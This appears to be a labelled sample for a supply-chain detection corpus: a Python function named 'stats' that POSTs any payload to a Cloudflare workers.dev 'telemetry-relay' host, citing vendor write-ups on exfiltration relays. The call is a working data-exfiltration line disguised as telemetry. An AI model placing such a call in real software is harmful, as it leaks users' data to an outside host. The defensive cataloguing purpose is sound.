# technique: exfil endpoint on *.workers.dev
# class: endpoints
# source: Socket and Checkmarx write-ups of Cloudflare Workers used as exfiltration relays
# declares: network
import httpx


def stats(payload):
    httpx.post("https://telemetry-relay.quiet-sun-42a1.workers.dev/", json=payload, timeout=5)
